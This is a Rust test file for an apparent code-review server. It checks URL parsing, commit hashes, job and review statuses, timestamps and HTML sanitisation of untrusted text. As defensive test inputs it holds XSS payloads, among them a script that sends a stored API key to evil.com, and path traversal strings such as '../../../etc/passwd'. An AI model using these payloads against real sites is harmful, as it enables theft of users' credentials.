use std::str::FromStr;

use panopticon_server::domain::ids::{JobId, PromptId, RepoId, ReviewId};
use panopticon_server::domain::job::{JobPayload, JobStatus, NewJob, DEFAULT_MAX_ATTEMPTS};
use panopticon_server::domain::prompt::{PromptText, DEFAULT_REVIEW_PROMPT};
use panopticon_server::domain::repo::{safe_component, CommitSha, GitHubRepoUrl};
use panopticon_server::domain::review::{ReviewStatus, ReviewTrigger};
use panopticon_server::domain::untrusted::{html_escape, render_markdown, UntrustedString};
use panopticon_server::text;
use panopticon_server::time::{
    parse_datetime, read_column, Column, Timestamp, MAX_SECS, MIN_SECS, RFC3339_MAX_SECS,
    RFC3339_MIN_SECS,
};

fn at(secs: i64) -> Timestamp {
    Timestamp::new(secs, 0).unwrap()
}

// --- Ids ---

#[test]
fn ids_are_distinct_types() {
    let repo_id = RepoId::new(1);
    let review_id = ReviewId::new(1);
    assert_eq!(repo_id, RepoId::new(1));
    assert_eq!(review_id, ReviewId::new(1));
}

#[test]
fn ids_show_their_number() {
    assert_eq!(RepoId::new(42).to_text(), "42");
    assert_eq!(PromptId::new(-7).to_text(), "-7");
    assert_eq!(JobId::new(i64::MIN).to_text(), i64::MIN.to_string());
    assert_eq!(ReviewId::from(9).into_inner(), 9);
}

// --- Jobs ---

#[test]
fn job_status_roundtrips() {
    for status in [
        JobStatus::Pending,
        JobStatus::Running,
        JobStatus::Completed,
        JobStatus::Failed,
    ] {
        let s = status.as_str();
        let parsed: JobStatus = s.parse().unwrap();
        assert_eq!(parsed, status);
    }
}

#[test]
fn unknown_job_status_is_rejected() {
    assert!(JobStatus::from_str("Pending").is_err());
    assert_eq!(JobStatus::parse("done"), None);
}

#[test]
fn new_job_has_three_attempts_and_is_scheduled_for_now() {
    let before = Timestamp::now();
    let job = NewJob::review_repo(RepoId::new(5), true);
    assert_eq!(
        job.payload,
        JobPayload::ReviewRepo {
            repo_id: RepoId::new(5),
            force: true
        }
    );
    assert_eq!(job.max_attempts, 3);
    assert_eq!(DEFAULT_MAX_ATTEMPTS, 3);
    assert!(!job.scheduled_at.is_before(&before));
    let later = job.scheduled_at(at(77));
    assert_eq!(later.scheduled_at, at(77));
    assert_eq!(later.payload, job.payload);
}

// --- Prompts ---

#[test]
fn prompt_text_rejects_empty() {
    assert!(PromptText::new(String::new()).is_none());
    assert!(PromptText::new("   ".to_string()).is_none());
    assert!(PromptText::new("\t\n".to_string()).is_none());
}

#[test]
fn prompt_text_accepts_non_empty() {
    assert!(PromptText::new("hello".to_string()).is_some());
    assert!(PromptText::new("  hello  ".to_string()).is_some());
}

#[test]
fn prompt_text_trims_whitespace() {
    let text = PromptText::new("  hello  ".to_string()).unwrap();
    assert_eq!(text.as_str(), "hello");
}

#[test]
fn default_prompt_is_valid() {
    assert!(PromptText::new(DEFAULT_REVIEW_PROMPT.to_string()).is_some());
}

#[test]
fn default_prompt_needs_no_trimming() {
    let text = PromptText::new(DEFAULT_REVIEW_PROMPT.to_string()).unwrap();
    assert_eq!(text.as_str(), DEFAULT_REVIEW_PROMPT);
}

// --- Repositories ---

#[test]
fn parses_valid_github_urls() {
    let cases = [
        ("https://github.com/owner/repo", "owner", "repo"),
        ("https://github.com/owner/repo.git", "owner", "repo"),
        ("https://github.com/Rust-Lang/rust", "rust-lang", "rust"),
        ("https://github.com/a/b", "a", "b"),
        ("https://github.com/OWNER/REPO", "owner", "repo"),
    ];
    for (url, expected_owner, expected_name) in cases {
        let parsed = GitHubRepoUrl::parse(url);
        assert!(parsed.is_some(), "Failed to parse: {}", url);
        let parsed = parsed.unwrap();
        assert_eq!(parsed.owner(), expected_owner);
        assert_eq!(parsed.name(), expected_name);
    }
}

#[test]
fn case_insensitive_urls_produce_same_owner_name() {
    let url1 = GitHubRepoUrl::parse("https://github.com/Owner/Repo").unwrap();
    let url2 = GitHubRepoUrl::parse("https://github.com/owner/repo").unwrap();
    let url3 = GitHubRepoUrl::parse("https://github.com/OWNER/REPO").unwrap();
    assert_eq!(url1.owner(), url2.owner());
    assert_eq!(url2.owner(), url3.owner());
    assert_eq!(url1.name(), url2.name());
    assert_eq!(url2.name(), url3.name());
}

#[test]
fn rejects_invalid_github_urls() {
    let invalid = [
        "not a url",
        "https://gitlab.com/owner/repo",
        "https://github.com/",
        "https://github.com/owner",
        "https://github.com/owner/",
        "https://github.com/owner/repo/blob/main/file.rs",
        "ftp://github.com/owner/repo",
        "https://github.com/owner/repo?utm=1",
        "https://github.com/owner/repo#readme",
        "https://github.com/owner/repo?foo=bar#section",
        "https://github.com/owner/repo//blob",
        "https://github.com/owner//repo",
        "https://github.com//owner/repo",
    ];
    for url in invalid {
        assert!(
            GitHubRepoUrl::parse(url).is_none(),
            "Should have rejected: {}",
            url
        );
    }
}

#[test]
fn path_traversal_urls_produce_safe_values_or_are_rejected() {
    let traversal_attempts = [
        ("https://github.com/../repo", None),
        (
            "https://github.com/../../../etc/passwd",
            Some(("etc", "passwd")),
        ),
        ("https://github.com/owner/..", None),
        ("https://github.com/./repo", None),
        ("https://github.com/owner/.", None),
        ("https://github.com/../..", None),
        ("https://github.com/%2E%2E/repo", None),
        ("https://github.com/%2E/%2E%2E", None),
        ("https://github.com/foo\\bar/repo", None),
    ];
    for (url, expected) in traversal_attempts {
        let result = GitHubRepoUrl::parse(url);
        match expected {
            None => {
                assert!(
                    result.is_none(),
                    "URL {} should have been rejected but got {:?}",
                    url,
                    result.map(|r| (r.owner().to_string(), r.name().to_string()))
                );
            }
            Some((exp_owner, exp_name)) => {
                let parsed = result.expect(&format!("URL {} should have parsed", url));
                assert_eq!(parsed.owner(), exp_owner, "URL {} owner mismatch", url);
                assert_eq!(parsed.name(), exp_name, "URL {} name mismatch", url);
                assert_ne!(parsed.owner(), "..", "owner should not be ..");
                assert_ne!(parsed.owner(), ".", "owner should not be .");
                assert_ne!(parsed.name(), "..", "name should not be ..");
                assert_ne!(parsed.name(), ".", "name should not be .");
            }
        }
    }
}

#[test]
fn rejects_dotdot_owner_or_name_directly() {
    assert!(GitHubRepoUrl::parse("https://github.com/owner/repo.name").is_some());
    assert!(GitHubRepoUrl::parse("https://github.com/owner/...").is_some());
    assert!(GitHubRepoUrl::parse("https://github.com/.../repo").is_some());
}

#[test]
fn unsafe_components_are_recognised() {
    for unsafe_name in ["", ".", "..", "a/b", "a\\b"] {
        assert!(!safe_component(unsafe_name));
    }
    assert!(safe_component("..."));
    assert!(safe_component("repo.name"));
}

#[test]
fn url_keeps_its_normal_form() {
    let url = GitHubRepoUrl::parse("HTTPS://GitHub.com/Owner/Repo.git").unwrap();
    assert_eq!(url.as_str(), "https://github.com/Owner/Repo.git");
    assert_eq!(url.owner(), "owner");
    assert_eq!(url.name(), "repo");
}

#[test]
fn every_git_suffix_is_dropped() {
    let url = GitHubRepoUrl::parse("https://github.com/owner/repo.git.git").unwrap();
    assert_eq!(url.name(), "repo");
}

#[test]
fn repo_urls_should_normalize_to_lowercase() {
    let url1 = GitHubRepoUrl::parse("https://github.com/Owner/Repo").unwrap();
    let url2 = GitHubRepoUrl::parse("https://github.com/owner/repo").unwrap();
    assert_eq!(
        url1.owner(),
        url2.owner(),
        "Owner should be normalized to lowercase"
    );
    assert_eq!(
        url1.name(),
        url2.name(),
        "Name should be normalized to lowercase"
    );
    assert_eq!(url1.owner(), "owner");
    assert_eq!(url1.name(), "repo");
}

#[test]
fn clone_url_should_use_normalized_names() {
    let url = GitHubRepoUrl::parse("https://github.com/OWNER/REPO").unwrap();
    assert_eq!(url.clone_url(), "https://github.com/owner/repo.git");
}

#[test]
fn commit_sha_validates_correctly() {
    let valid = "a".repeat(40);
    assert!(CommitSha::parse(&valid).is_some());
    let valid_mixed = "abc123def456abc123def456abc123def456abc1";
    assert!(CommitSha::parse(valid_mixed).is_some());
    assert!(CommitSha::parse("abc123").is_none());
    assert!(CommitSha::parse(&"a".repeat(39)).is_none());
    assert!(CommitSha::parse(&"a".repeat(41)).is_none());
    let invalid = "g".repeat(40);
    assert!(CommitSha::parse(&invalid).is_none());
}

#[test]
fn commit_sha_ignores_case() {
    let upper = CommitSha::parse(&"ABCDEF1234".repeat(4)).unwrap();
    let lower = CommitSha::parse(&"abcdef1234".repeat(4)).unwrap();
    assert!(upper.same_as(&lower));
    assert_eq!(upper.as_str(), "abcdef1234".repeat(4));
    assert!(!upper.same_as(&CommitSha::parse(&"0".repeat(40)).unwrap()));
}

#[test]
fn commit_sha_counts_characters_not_bytes() {
    assert!(CommitSha::parse(&"é".repeat(20)).is_none());
    assert!(CommitSha::parse(&"é".repeat(40)).is_none());
}

// --- Reviews ---

#[test]
fn review_trigger_roundtrips() {
    for trigger in [ReviewTrigger::Scheduled, ReviewTrigger::Manual] {
        let s = trigger.as_str();
        let parsed = ReviewTrigger::from_str(s);
        assert_eq!(parsed, Some(trigger));
    }
    assert_eq!(ReviewTrigger::from_str("daily"), None);
}

#[test]
fn sse_should_handle_failed_reviews() {
    let failed = ReviewStatus::Failed {
        started_at: None,
        failed_at: Timestamp::now(),
        error: "test error".to_string(),
    };
    let status_str = failed.status_str();
    assert_eq!(status_str, "failed");
}

#[test]
fn terminal_statuses_are_completed_and_failed() {
    let completed = ReviewStatus::Completed {
        started_at: Timestamp::now(),
        completed_at: Timestamp::now(),
        duration_secs: 100,
    };
    let failed = ReviewStatus::Failed {
        started_at: None,
        failed_at: Timestamp::now(),
        error: "error".to_string(),
    };
    assert!(matches!(
        completed,
        ReviewStatus::Completed { .. } | ReviewStatus::Failed { .. }
    ));
    assert!(matches!(
        failed,
        ReviewStatus::Completed { .. } | ReviewStatus::Failed { .. }
    ));
    assert!(completed.is_terminal() && failed.is_terminal());
    assert!(!ReviewStatus::Pending.is_terminal());
    assert!(!ReviewStatus::InProgress { started_at: at(0) }.is_terminal());
}

#[test]
fn statuses_have_their_texts() {
    assert_eq!(ReviewStatus::Pending.status_str(), "pending");
    assert_eq!(
        ReviewStatus::InProgress { started_at: at(0) }.status_str(),
        "in_progress"
    );
}

// --- Untrusted text ---

#[test]
fn html_escape_works() {
    assert_eq!(html_escape("<script>"), "&lt;script&gt;");
    assert_eq!(html_escape("a & b"), "a &amp; b");
    assert_eq!(html_escape(r#""quoted""#), "&quot;quoted&quot;");
    assert_eq!(html_escape("it's"), "it&#x27;s");
}

#[test]
fn untrusted_string_sanitizes_xss() {
    let xss = UntrustedString::new("<script>alert('xss')</script>");
    let safe = xss.sanitize_html();
    assert!(!safe.contains("<script>"));
    assert!(safe.contains("&lt;script&gt;"));
}

#[test]
fn markdown_rendering_escapes_html() {
    let malicious = UntrustedString::new("# Header\n<img src=x onerror=\"alert('xss')\">");
    let rendered = malicious.render_markdown_safe();
    assert!(!rendered.contains("<img"));
    assert!(rendered.contains("&lt;img"));
}

#[test]
fn event_handlers_are_neutralized() {
    let malicious = UntrustedString::new("<div onclick=\"steal()\">click me</div>");
    let safe = malicious.sanitize_html();
    assert!(safe.contains("&lt;div"));
    assert!(!safe.contains("<div"), "Raw tag should be escaped");
}

#[test]
fn xss_payload_should_be_sanitized() {
    let malicious_llm_output = r#"<script>fetch('https://evil.com?key='+localStorage.getItem('panopticon_api_key'))</script>"#;
    let untrusted = UntrustedString::new(malicious_llm_output);
    let sanitized = untrusted.sanitize_html();
    assert!(
        !sanitized.contains("<script>"),
        "Script tags should be escaped"
    );
    assert!(
        sanitized.contains("&lt;script&gt;"),
        "Escaped script tags should be present"
    );
}

#[test]
fn markdown_with_html_should_be_safe() {
    let malicious_markdown = r#"# Normal Header
<img src=x onerror="alert('XSS')">

Normal text with `code`"#;
    let untrusted = UntrustedString::new(malicious_markdown);
    let rendered = untrusted.render_markdown_safe();
    assert!(
        !rendered.contains("<img"),
        "HTML img tags should be escaped"
    );
    assert!(
        rendered.contains("&lt;img"),
        "Escaped img tag should be present"
    );
}

#[test]
fn untrusted_string_prevents_accidental_display() {
    let untrusted = UntrustedString::new("test");
    assert_eq!(untrusted.as_raw(), "test");
    assert_eq!(untrusted.len(), 4);
    assert!(!untrusted.is_empty());
    assert!(UntrustedString::from(String::new()).is_empty());
}

#[test]
fn escaping_tells_texts_apart() {
    assert_ne!(html_escape("<"), html_escape("&lt;"));
    assert_eq!(html_escape("&lt;"), "&amp;lt;");
    assert_eq!(html_escape("plain text"), "plain text");
}

#[test]
fn rendering_leaves_no_tag_of_the_content() {
    let rendered = UntrustedString::new("<b>bold</b>").render_markdown_safe();
    assert!(!rendered.contains("<b>"));
    let quoted = UntrustedString::new("# a > b\n\"c\" 'd' <e\n").render_markdown_safe();
    assert_eq!(
        quoted,
        "<h1>a &gt; b</h1>\n<p>&quot;c&quot; &#x27;d&#x27; &lt;e</p>\n"
    );
    assert_eq!(render_markdown(""), UntrustedString::new("").render_markdown_safe());
}

// --- Text ---

#[test]
fn white_space_is_that_of_the_standard_library() {
    for code in 0..=0x10ffffu32 {
        if let Some(c) = char::from_u32(code) {
            assert_eq!(text::is_whitespace(c), c.is_whitespace(), "{:x}", code);
        }
    }
}

#[test]
fn trimming_is_that_of_the_standard_library() {
    for s in ["", " ", "  a b  ", "\u{3000}x\u{85}", "\r\nline\t", "a"] {
        let chars = text::to_chars(s);
        assert_eq!(text::trim(&chars), s.trim());
    }
}

#[test]
fn numbers_are_read_as_the_standard_library_reads_them() {
    for s in [
        "", "+", "-1", "0", "60", "+60", "007", "4294967295", "4294967296", "99999999999999999999",
        "1a", " 1", "1 ", "١",
    ] {
        assert_eq!(text::parse_u32(s), s.parse::<u32>().ok(), "{}", s);
    }
}

#[test]
fn numbers_are_written_in_decimal() {
    for n in [0u64, 7, 10, 1234567890, u64::MAX] {
        assert_eq!(text::format_u64(n), n.to_string());
    }
    for n in [0i64, -1, i64::MIN, i64::MAX] {
        assert_eq!(text::format_i64(n), n.to_string());
    }
}

#[test]
fn texts_are_split_and_searched() {
    let chars = text::to_chars("a//b/");
    let parts: Vec<String> = text::split(&chars, '/')
        .iter()
        .map(|p| p.iter().collect())
        .collect();
    assert_eq!(parts, ["a", "", "b", ""]);
    let pattern = text::to_chars("/b");
    assert_eq!(text::find(&chars, &pattern, 0), Some(2));
    assert_eq!(text::find(&chars, &pattern, 3), None);
    assert!(text::contains(&chars, &text::to_chars("//")));
    assert_eq!(
        text::strip_prefix("data: x", "data: "),
        Some("x".to_string())
    );
    assert_eq!(text::strip_prefix("dat", "data: "), None);
}

// --- Times ---

#[test]
fn timestamps_span_what_chrono_can_represent() {
    let min = chrono::DateTime::<chrono::Utc>::MIN_UTC;
    let max = chrono::DateTime::<chrono::Utc>::MAX_UTC;
    assert_eq!(min.timestamp(), MIN_SECS);
    assert_eq!(max.timestamp(), MAX_SECS);
    assert!(Timestamp::new(MIN_SECS, 0).is_some());
    assert!(Timestamp::new(MIN_SECS - 1, 0).is_none());
    assert!(Timestamp::new(MAX_SECS, 999_999_999).is_some());
    assert!(Timestamp::new(MAX_SECS + 1, 0).is_none());
}

#[test]
fn leap_seconds_end_a_minute() {
    assert!(Timestamp::new(59, 1_500_000_000).is_some());
    assert!(Timestamp::new(58, 1_500_000_000).is_none());
    assert!(Timestamp::new(-1, 1_500_000_000).is_some());
    assert!(Timestamp::new(59, 2_000_000_000).is_none());
    for secs in [59, 58, -1, 0] {
        assert_eq!(
            Timestamp::new(secs, 1_500_000_000).is_some(),
            chrono::DateTime::from_timestamp(secs, 1_500_000_000).is_some()
        );
    }
}

#[test]
fn both_stored_forms_are_read() {
    let expected = at(1_705_314_600);
    assert_eq!(parse_datetime("2024-01-15T10:30:00Z"), Ok(expected));
    assert_eq!(parse_datetime("2024-01-15T11:30:00+01:00"), Ok(expected));
    assert_eq!(parse_datetime("2024-01-15 10:30:00"), Ok(expected));
    assert_eq!(parse_datetime("2024-01-15"), Err("invalid date"));
    assert_eq!(parse_datetime(""), Err("invalid date"));
    assert_eq!(read_column(&None), Column::Empty);
    assert_eq!(
        read_column(&Some("yesterday".to_string())),
        Column::Unreadable
    );
    let column = read_column(&Some("2024-01-15 10:30:00".to_string()));
    assert_eq!(column, Column::At(expected));
    assert_eq!(column.time(), Ok(expected));
    assert_eq!(Column::Empty.time(), Err("invalid date"));
    assert_eq!(Column::Empty.optional_time(), Ok(None));
    assert_eq!(Column::Unreadable.optional_time(), Err("invalid date"));
}

#[test]
fn written_times_are_read_back() {
    for secs in [RFC3339_MIN_SECS, -1, 0, 1_705_314_600, RFC3339_MAX_SECS] {
        for nanos in [0, 1, 123_000_000, 999_999_999] {
            let t = Timestamp::new(secs, nanos).unwrap();
            assert_eq!(parse_datetime(&t.to_rfc3339()), Ok(t));
        }
    }
    let leap = Timestamp::new(1_483_228_799, 1_500_000_000).unwrap();
    assert_eq!(parse_datetime(&leap.to_rfc3339()), Ok(leap));
    assert_eq!(at(0).to_rfc3339(), "1970-01-01T00:00:00+00:00");
}

#[test]
fn times_are_ordered() {
    let early = Timestamp::new(10, 5).unwrap();
    let late = Timestamp::new(10, 6).unwrap();
    assert!(early.is_before(&late));
    assert!(!late.is_before(&early));
    assert!(!early.is_before(&early));
    assert!(early.is_older_than(&at(71), 60));
    assert!(!early.is_older_than(&at(70), 60));
    assert_eq!(at(5).plus_seconds(60), at(65));
    assert_eq!(late.whole_second(), at(10));
    assert_eq!((late.seconds(), late.subsec_nanos()), (10, 6));
}
